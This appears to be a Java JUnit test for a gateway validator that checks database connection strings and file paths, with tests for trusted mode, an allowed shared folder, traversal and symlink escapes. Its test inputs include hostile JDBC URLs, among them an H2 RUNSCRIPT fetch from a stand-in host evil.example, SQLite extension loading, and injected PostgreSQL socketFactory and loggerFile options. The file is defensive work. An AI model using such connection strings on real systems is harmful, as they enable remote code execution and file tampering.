package org.everycore.gateway;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.everycore.jobs.PlaceRef;
import org.everycore.jobs.SpecException;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PlaceCheckTest {
    @TempDir
    Path folder;

    private Path shared;
    private PlaceCheck check;

    @BeforeEach
    void share() throws IOException {
        shared = Files.createDirectory(folder.resolve("shared"));
        check = new PlaceCheck(List.of(shared), false);
    }

    private static PlaceRef store(String place) {
        return PlaceRef.at(place);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "JDBC:h2:mem:x",
                " jdbc:h2:mem:x",
                "jdbc:h2:tcp://evil.example/x",
                "log;INIT=RUNSCRIPT FROM 'x' .mv.db",
                "jdbc:sqlite:log.db?enable_load_extension=true",
                "jdbc:postgresql://db/x?socketFactory=evil.Factory",
                "jdbc:postgresql://db/x?sslmode=require&loggerFile=/tmp/x",
                "jdbc:postgresql://db/x?user=a;b",
                "jdbc:mysql://db/x"
            })
    void whatCouldRunCodeIsRefusedEvenWhereEverybodyIsTrusted(String place) {
        PlaceCheck trusting = new PlaceCheck(List.of(), true);
        assertThatThrownBy(() -> trusting.checkPlace("store", store(place))).isInstanceOf(SpecException.class);
        JsonNode deep = JsonNodeFactory.instance
                .objectNode()
                .set("a", JsonNodeFactory.instance.arrayNode().add(place));
        if (place.contains("jdbc:")) {
            assertThatThrownBy(() -> trusting.checkTexts(deep)).isInstanceOf(SpecException.class);
        }
    }

    @Test
    void serversAndSharedFilesPass() {
        for (String place : List.of(
                "jdbc:postgresql://db.example:5432/log",
                "jdbc:postgresql://db/log?sslmode=verify-full&currentSchema=radio",
                shared.resolve("log.db").toString(),
                "jdbc:sqlite:" + shared.resolve("new/log.db"),
                "jdbc:h2:file:" + shared.resolve("log"))) {
            assertThatCode(() -> check.checkPlace("store", store(place)))
                    .as(place)
                    .doesNotThrowAnyException();
        }
    }

    @Test
    void otherFilesPassOnlyWhereEverybodyIsTrusted() throws IOException {
        Path outside = folder.resolve("log.db");
        Files.createSymbolicLink(shared.resolve("link"), folder);
        Files.createSymbolicLink(shared.resolve("dangling"), folder.resolve("nowhere"));
        for (String place : List.of(
                outside.toString(),
                "log.db",
                shared + "/../log.db",
                shared + "/new/../../log.db",
                shared.resolve("link/log.db").toString(),
                shared.resolve("dangling").toString(),
                "jdbc:sqlite:" + outside)) {
            assertThatThrownBy(() -> check.checkPlace("store", store(place)))
                    .as(place)
                    .isInstanceOf(SpecException.class);
        }
        assertThatCode(() -> new PlaceCheck(List.of(), true).checkPlace("store", store(outside.toString())))
                .doesNotThrowAnyException();
        assertThatThrownBy(() -> new PlaceCheck(List.of(), true).checkInput(outside.toString()))
                .isInstanceOf(SpecException.class);
    }
}
